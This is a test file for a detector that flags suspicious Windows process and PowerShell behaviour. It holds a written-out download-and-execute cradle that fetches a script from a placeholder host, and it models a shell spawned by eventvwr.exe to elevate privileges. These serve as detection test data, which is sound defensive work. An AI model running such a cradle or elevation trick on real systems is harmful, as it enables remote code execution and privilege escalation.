import { describe, expect, it } from "vitest";
import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
import type { Event } from "../model/event.ts";
import { createDetector } from "./detector.ts";

const S32 = "C:\\Windows\\System32\\";
const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;

function find(events: readonly Event[]) {
  const detector = createDetector({ catalog: testCatalog(), minLevel: "medium" });
  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
}

describe("a script block of PowerShell", () => {
  const block = (at: number, text: string, origin: "scriptBlock" | "pipeline" = "scriptBlock") =>
    anEvent("commandExecution", at, {
      process: { pid: "P".charCodeAt(0) },
      text,
      dialect: "powershell",
      origin,
    });
  const cradle = "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x.ps1')";
  it("that runs what it fetches is a finding, once", () => {
    const findings = find([block(0, cradle), block(1, cradle, "pipeline")]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      behaviour: "windows/powershell/remote-code",
      runs: [{ value: "https://a.example/x.ps1", where: "web" }],
    });
  });
  it("stands with the finding of the shell whose line says so", () => {
    const findings = find([aStart(0, "P", PS, `powershell -c "${cradle}"`), block(1, cradle)]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.related).toHaveLength(1);
  });
  it.each([
    "Get-ChildItem C:\\Temp | Remove-Item",
    "Invoke-WebRequest https://a.example/x.zip -OutFile D:\\x.zip",
    "& 'C:\\Program Files\\V\\v.exe' /check",
  ])("that does what scripts do is none: %s", (text) => {
    expect(find([block(0, text)])).toEqual([]);
  });
});

describe("what a program that elevates itself starts", () => {
  const eventvwr = `${S32}eventvwr.exe`;
  const child = (image: string) =>
    aStart(1, "C", image, image, "P", {
      parent: { key: "id:P", pid: 3, image: eventvwr },
      parentCommandLine: `"${eventvwr}"`,
    });
  it("is a finding of the program where that is a shell, though its own start is not logged", () => {
    const [finding] = find([child(PS)]);
    expect(finding).toMatchObject({ binary: { name: "eventvwr.exe" }, level: "high" });
    expect(finding?.evidence.map(({ id }) => id)).toContain("elevated-child");
  });
  it("is none where it is its own console", () => {
    expect(find([child(`${S32}mmc.exe`)])).toEqual([]);
  });
});
